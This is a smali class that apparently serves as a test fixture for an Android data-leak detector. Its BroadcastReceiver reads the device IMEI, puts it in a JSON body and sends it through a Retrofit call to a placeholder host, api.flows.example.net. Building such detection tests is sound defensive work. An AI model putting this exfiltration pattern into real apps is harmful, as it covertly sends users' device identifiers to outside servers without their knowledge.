.class public Lorg/phonehome/test/flows/RetrofitCase;
.super Landroid/content/BroadcastReceiver;
.source "RetrofitCase.java"

# The IMEI goes into a JSON body (OkHttp RequestBody) handed to a Retrofit service
# method the APK has no code for, and the call is executed.

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 7
    const-string v0, "phone"
    invoke-virtual {p1, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getImei()Ljava/lang/String;
    move-result-object v1
    :try_start
    new-instance v2, Lorg/json/JSONObject;
    invoke-direct {v2}, Lorg/json/JSONObject;-><init>()V
    const-string v3, "device"
    invoke-virtual {v2, v3, v1}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
    invoke-virtual {v2}, Lorg/json/JSONObject;->toString()Ljava/lang/String;
    move-result-object v2
    const-string v3, "application/json"
    invoke-static {v3}, Lokhttp3/MediaType;->parse(Ljava/lang/String;)Lokhttp3/MediaType;
    move-result-object v3
    invoke-static {v3, v2}, Lokhttp3/RequestBody;->create(Lokhttp3/MediaType;Ljava/lang/String;)Lokhttp3/RequestBody;
    move-result-object v2
    new-instance v3, Lretrofit2/Retrofit$Builder;
    invoke-direct {v3}, Lretrofit2/Retrofit$Builder;-><init>()V
    const-string v4, "https://api.flows.example.net/"
    invoke-virtual {v3, v4}, Lretrofit2/Retrofit$Builder;->baseUrl(Ljava/lang/String;)Lretrofit2/Retrofit$Builder;
    move-result-object v3
    invoke-virtual {v3}, Lretrofit2/Retrofit$Builder;->build()Lretrofit2/Retrofit;
    move-result-object v3
    const-class v4, Lorg/phonehome/test/flows/Api;
    invoke-virtual {v3, v4}, Lretrofit2/Retrofit;->create(Ljava/lang/Class;)Ljava/lang/Object;
    move-result-object v3
    check-cast v3, Lorg/phonehome/test/flows/Api;
    invoke-interface {v3, v2}, Lorg/phonehome/test/flows/Api;->register(Lokhttp3/RequestBody;)Lretrofit2/Call;
    move-result-object v2
    invoke-interface {v2}, Lretrofit2/Call;->execute()Lretrofit2/Response;
    :try_end
    .catch Ljava/lang/Exception; {:try_start .. :try_end} :failed
    :failed
    return-void
.end method
